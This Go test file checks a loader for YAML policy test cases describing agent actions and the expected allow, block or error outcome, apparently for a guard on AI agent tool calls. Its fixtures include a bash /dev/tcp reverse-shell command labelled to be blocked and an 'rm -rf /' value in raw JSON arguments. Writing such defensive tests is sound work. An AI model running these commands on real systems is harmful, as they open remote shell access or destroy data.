package policytest

import (
	"encoding/json"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"testing/fstest"
)

const goodFile = `# a comment
category: reverse_shell
kind: attack
caller: { workspace_root: /home/dev/project, home: /home/dev, tenant: acme }
cases:
  - name: bash tcp
    action: { type: execute_command, args: { command: "bash -i >& /dev/tcp/203.0.113.7/4444 0>&1" } }
    expect: block
    rule: shell.reverse-shell
    min_tier: 1
  - name: everyday override
    kind: everyday
    category: everyday_shell
    caller: { home: /root, agent_name: bot }
    action:
      type: http_request
      args:
        url: https://api.github.com/repos/x/y
        method: GET
        headers: { Accept: "application/json", X-Count: 3 }
        retries: [1, 2.5, true, null, "<a&b>"]
        when: 2024-01-02
        nested: { a: { b: [ { c: 1 } ] } }
    expect: allow
  - name: raw json
    action: { type: bash, args_json: '{"command":"ls","command":"rm -rf /"}' }
    expect: error
  - name: no args
    action: { type: "" }
    expect: error
`

func TestLoadFSGood(t *testing.T) {
	fsys := fstest.MapFS{
		"cases/b.yml":       {Data: []byte(goodFile)},
		"cases/a.yaml":      {Data: []byte("category: c\nkind: everyday\ncases:\n  - {name: one, action: {type: read_file, args: {path: x}}, expect: allow}\n")},
		"cases/notes.txt":   {Data: []byte("not a case file")},
		"cases/sub/z.yaml":  {Data: []byte("garbage: [")},
		"cases/.hidden.yml": {Data: []byte("garbage: [")},
	}
	cases, err := LoadFS(fsys, "cases")
	if err != nil {
		t.Fatal(err)
	}
	if len(cases) != 5 {
		t.Fatalf("got %d cases, want 5", len(cases))
	}
	if cases[0].File != "cases/a.yaml" || cases[0].Line != 4 || cases[0].Name != "one" {
		t.Errorf("first case %s %q: files must load in name order", cases[0].Pos(), cases[0].Name)
	}

	c := cases[1]
	if c.Pos() != "cases/b.yml:6" || c.Category != "reverse_shell" || c.Kind != KindAttack ||
		c.Expect != ExpectBlock || c.Rule != "shell.reverse-shell" || c.MinTier != 1 {
		t.Errorf("case 1 = %+v", c)
	}
	if c.Request.Type != "execute_command" || c.Request.Caller.Tenant != "acme" || c.Request.Caller.Home != "/home/dev" {
		t.Errorf("case 1 request = %+v", c.Request)
	}
	if got := string(c.Request.Payload); got != `{"command":"bash -i >& /dev/tcp/203.0.113.7/4444 0>&1"}` {
		t.Errorf("case 1 payload = %s", got)
	}

	c = cases[2]
	if c.Kind != KindEveryday || c.Category != "everyday_shell" || c.Line != 11 {
		t.Errorf("case 2 overrides not applied: %+v", c)
	}
	want := map[string]string{"Tenant": "acme", "WorkspaceRoot": "/home/dev/project", "Home": "/root", "AgentName": "bot"}
	got := map[string]string{"Tenant": c.Request.Caller.Tenant, "WorkspaceRoot": c.Request.Caller.WorkspaceRoot,
		"Home": c.Request.Caller.Home, "AgentName": c.Request.Caller.AgentName}
	for k := range want {
		if want[k] != got[k] {
			t.Errorf("merged caller %s = %q, want %q", k, got[k], want[k])
		}
	}
	var args map[string]any
	if err := json.Unmarshal(c.Request.Payload, &args); err != nil {
		t.Fatalf("payload %s: %v", c.Request.Payload, err)
	}
	wantJSON := `{"headers":{"Accept":"application/json","X-Count":3},"method":"GET",` +
		`"nested":{"a":{"b":[{"c":1}]}},"retries":[1,2.5,true,null,"<a&b>"],` +
		`"url":"https://api.github.com/repos/x/y","when":"2024-01-02"}`
	if string(c.Request.Payload) != wantJSON {
		t.Errorf("payload\n got %s\nwant %s", c.Request.Payload, wantJSON)
	}

	if got := string(cases[3].Request.Payload); got != `{"command":"ls","command":"rm -rf /"}` {
		t.Errorf("args_json must pass through unchanged, got %s", got)
	}
	if cases[4].Request.Type != "" || cases[4].Request.Payload != nil {
		t.Errorf("case 4 request = %+v", cases[4].Request)
	}
}

func TestLoadDir(t *testing.T) {
	dir := t.TempDir()
	if _, err := LoadDir(dir); err == nil || !strings.Contains(err.Error(), "no *.yaml") {
		t.Errorf("empty dir: err = %v", err)
	}
	if err := os.WriteFile(filepath.Join(dir, "x.yaml"), []byte(goodFile), 0o600); err != nil {
		t.Fatal(err)
	}
	cases, err := LoadDir(dir)
	if err != nil {
		t.Fatal(err)
	}
	if want := filepath.Join(dir, "x.yaml") + ":6"; cases[0].Pos() != want {
		t.Errorf("Pos = %q, want %q", cases[0].Pos(), want)
	}
	if _, err := LoadDir(filepath.Join(dir, "missing")); err == nil {
		t.Error("missing dir: no error")
	}
}

func TestLoadErrors(t *testing.T) {
	head := "category: c\nkind: attack\ncases:\n"
	tests := []struct {
		name, src string
		want      []string // each must appear in the error
	}{
		{"empty", "", []string{"f.yaml: empty case file"}},
		{"syntax", "category: [\n", []string{"f.yaml:"}},
		{"not mapping", "- a\n", []string{"f.yaml:1: case file must be a mapping"}},
		{"no cases", "category: c\n", []string{"f.yaml:1: no cases: key"}},
		{"empty cases", "category: c\ncases: []\n", []string{"f.yaml:2: cases is empty"}},
		{"two documents", head + "  - {name: a, action: {type: x}, expect: allow}\n---\nx: 1\n", []string{"only one YAML document"}},
		{"unknown top key", "categroy: c\n" + head[12:] + "  - {name: a, action: {type: x}, expect: allow}\n",
			[]string{`f.yaml:1: unknown key "categroy" in case file`}},
		{"unknown case key", head + "  - name: a\n    action: {type: x}\n    expect: allow\n    expected: block\n",
			[]string{`f.yaml:7: unknown key "expected" in case`}},
		{"unknown action key", head + "  - {name: a, action: {type: x, arg: {}}, expect: allow}\n",
			[]string{`f.yaml:4: unknown key "arg" in action`}},
		{"unknown caller key", "caller: {homedir: /x}\n" + head + "  - {name: a, action: {type: x}, expect: allow}\n",
			[]string{`f.yaml:1: unknown key "homedir" in caller`}},
		{"bad expect", head + "  - name: a\n    action: {type: x}\n    expect: deny\n",
			[]string{`f.yaml:6: expect must be allow, block, escalate or error, not "deny"`}},
		{"missing expect", head + "  - name: a\n    action: {type: x}\n", []string{"f.yaml:4: case \"a\" has no expect"}},
		{"missing name", head + "  - action: {type: x}\n    expect: allow\n", []string{"f.yaml:4: case has no name"}},
		{"blank name", head + "  - name: ' '\n    action: {type: x}\n    expect: allow\n", []string{"f.yaml:4: name is empty"}},
		{"null name", head + "  - name:\n    action: {type: x}\n    expect: allow\n", []string{"f.yaml:4: name must be a string"}},
		{"missing action", head + "  - name: a\n    expect: allow\n", []string{`f.yaml:4: case "a" has no action`}},
		{"missing type", head + "  - name: a\n    action: {args: {}}\n    expect: allow\n", []string{"f.yaml:5: action has no type"}},
		{"empty type needs error", head + "  - name: a\n    action: {type: ''}\n    expect: block\n",
			[]string{"f.yaml:5: action type is empty (allowed only with expect: error)"}},
		{"args and args_json", head + "  - {name: a, action: {type: x, args: {}, args_json: '{}'}, expect: allow}\n",
			[]string{"f.yaml:4: action has both args and args_json"}},
		{"args not mapping", head + "  - {name: a, action: {type: x, args: [1]}, expect: allow}\n",
			[]string{"f.yaml:4: args must be a mapping"}},
		{"args duplicate key", head + "  - name: a\n    action:\n      type: x\n      args:\n        k: 1\n        k: 2\n    expect: allow\n",
			[]string{`f.yaml:9: duplicate key "k" in args (first at line 8)`}},
		{"duplicate case key", head + "  - name: a\n    name: b\n    action: {type: x}\n    expect: allow\n",
			[]string{`f.yaml:5: duplicate key "name" in case (first at line 4)`}},
		{"duplicate case name", head + "  - {name: a, action: {type: x}, expect: allow}\n  - {name: a, action: {type: y}, expect: allow}\n",
			[]string{`f.yaml:5: duplicate case name "a" (first at line 4)`}},
		{"bad kind", "kind: benign\ncategory: c\ncases:\n  - {name: a, action: {type: x}, expect: allow}\n",
			[]string{`f.yaml:1: kind must be attack or everyday, not "benign"`}},
		{"no kind", "category: c\ncases:\n  - {name: a, action: {type: x}, expect: allow}\n",
			[]string{`f.yaml:3: case "a" has no kind`}},
		{"no category", "kind: attack\ncases:\n  - {name: a, action: {type: x}, expect: allow}\n",
			[]string{`f.yaml:3: case "a" has no category`}},
		{"tier range", head + "  - {name: a, action: {type: x}, expect: allow, min_tier: 4}\n", []string{"f.yaml:4: min_tier must be an integer 0..3"}},
		{"tier type", head + "  - {name: a, action: {type: x}, expect: allow, min_tier: one}\n", []string{"f.yaml:4: min_tier must be an integer"}},
		{"alias", "x: &a {type: x}\n", []string{`unknown key "x"`}},
		{"alias in args", head + "  - name: a\n    action: {type: x, args: {a: &v 1, b: *v}}\n    expect: allow\n",
			[]string{"f.yaml:5: YAML aliases are not supported"}},
		{"infinite float", head + "  - {name: a, action: {type: x, args: {n: .inf}}, expect: allow}\n", []string{`number ".inf" has no JSON form`}},
		{"binary tag", head + "  - {name: a, action: {type: x, args: {n: !!binary aGk=}}, expect: allow}\n", []string{`unsupported YAML tag "!!binary"`}},
		{"several errors", head + "  - {name: a, action: {type: x}, expect: nope}\n  - {action: {type: x}, expect: allow}\n",
			[]string{"f.yaml:4: expect must be", "f.yaml:5: case has no name"}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			cases, err := LoadFS(fstest.MapFS{"f.yaml": {Data: []byte(tt.src)}}, ".")
			if err == nil {
				t.Fatalf("no error; cases = %+v", cases)
			}
			if cases != nil {
				t.Errorf("cases returned with an error")
			}
			for _, w := range tt.want {
				if !strings.Contains(err.Error(), w) {
					t.Errorf("error %q\ndoes not contain %q", err, w)
				}
			}
		})
	}
}

// An error in one file must not hide the errors in another.
func TestLoadReportsEveryFile(t *testing.T) {
	fsys := fstest.MapFS{
		"a.yaml": {Data: []byte("cases: 3\n")},
		"b.yaml": {Data: []byte("kind: x\n")},
	}
	_, err := LoadFS(fsys, ".")
	if err == nil || !strings.Contains(err.Error(), "a.yaml:1: cases must be a list") ||
		!strings.Contains(err.Error(), "b.yaml:1: kind must be attack or everyday") {
		t.Errorf("err = %v", err)
	}
}

func TestLoadAttachments(t *testing.T) {
	const file = `category: planted_code
kind: attack
caller: { workspace_root: /w, home: /h }
cases:
  - name: attached
    action:
      type: execute_command
      args: { command: "bash b.sh" }
      attachments: [{ path: b.sh, content: "id\n" }, { path: c.sh, unreadable: true }]
    expect: block
`
	cases, err := LoadFS(fstest.MapFS{"a.yaml": {Data: []byte(file)}}, ".")
	if err != nil {
		t.Fatal(err)
	}
	atts := cases[0].Request.Attachments
	if len(atts) != 2 || atts[0].Path != "b.sh" || atts[0].Content != "id\n" || atts[0].Unreadable ||
		atts[1].Path != "c.sh" || !atts[1].Unreadable {
		t.Fatalf("attachments %+v", atts)
	}
	for _, bad := range []string{
		`attachments: { path: x }`,
		`attachments: [{ content: x }]`,
		`attachments: [{ path: x, unreadable: maybe }]`,
		`attachments: [{ path: x, mode: 1 }]`,
	} {
		f := strings.Replace(file, `attachments: [{ path: b.sh, content: "id\n" }, { path: c.sh, unreadable: true }]`, bad, 1)
		if _, err := LoadFS(fstest.MapFS{"a.yaml": {Data: []byte(f)}}, "."); err == nil {
			t.Errorf("%s: loaded", bad)
		}
	}
}
